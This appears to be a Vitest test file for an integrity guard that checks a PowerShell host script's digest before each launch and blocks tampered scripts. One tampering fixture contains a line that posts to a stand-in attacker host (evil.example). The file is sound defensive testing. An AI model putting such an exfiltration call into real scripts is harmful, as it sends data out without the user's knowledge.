import { PassThrough } from 'node:stream';
import { describe, expect, it, vi } from 'vitest';
import { isAppError } from '../../../../shared/contract';
import { scriptDigest, verifiedSpawn } from '../../../../electron/integrity';
import { createPepClient } from '../../../../electron/pep';
import type { HostProcess, SpawnHost } from '../../../../electron/pep/host-process';

const path = '/opt/azs-registrar/resources/pep-host.ps1';
const original = Buffer.from('Set-StrictMode -Version 3\nexit 0\n');
const fakeProcess = (): HostProcess => {
  const p = { stdin: new PassThrough(), stdout: new PassThrough(), stderr: new PassThrough(), pid: 42, kill: () => true, once: () => p };
  return p;
};
const OPTIONS = { env: {}, windowsHide: true, shell: false, stdio: 'pipe' } as const;

describe('verifiedSpawn', () => {
  it('starts the host when the script matches, checking it again before every start', () => {
    let onDisk = original;
    const readFile = vi.fn(() => onDisk);
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    const guarded = verifiedSpawn(spawn, { readFile, path, expected: scriptDigest(original) });

    expect(guarded('powershell.exe', ['-File', path], OPTIONS).pid).toBe(42);
    expect(spawn).toHaveBeenCalledWith('powershell.exe', ['-File', path], OPTIONS);

    onDisk = Buffer.from('Set-StrictMode -Version 3\nInvoke-WebRequest https://evil.example/ -Method Post\nexit 0\n');
    expect(() => guarded('powershell.exe', ['-File', path], OPTIONS)).toThrow(/changed or damaged/);
    expect(spawn).toHaveBeenCalledTimes(1);
    expect(readFile).toHaveBeenCalledTimes(2);
    expect(readFile).toHaveBeenCalledWith(path);
  });

  it('makes the PEP client refuse to connect with the typed problem, without starting PowerShell', async () => {
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    const pep = createPepClient({
      spawn: verifiedSpawn(spawn, { readFile: () => Buffer.from('tampered'), path, expected: scriptDigest(original) }),
      host: { command: 'powershell.exe', args: ['-File', path], env: {} },
      clock: { now: () => new Date('2026-01-01T00:00:00Z') },
      log: { info: () => undefined, warn: () => undefined, error: () => undefined },
      sleep: () => new Promise(() => undefined),
      probePort: async () => true,
    });
    const err: unknown = await pep.connect({ hosts: ['10.0.0.225'], user: 'AzureStack\\CloudAdmin', password: 'not-a-real-password' }).catch((e: unknown) => e);
    expect(isAppError(err) && err.problem.code).toBe('pep-failed');
    expect(spawn).not.toHaveBeenCalled();
  });
});
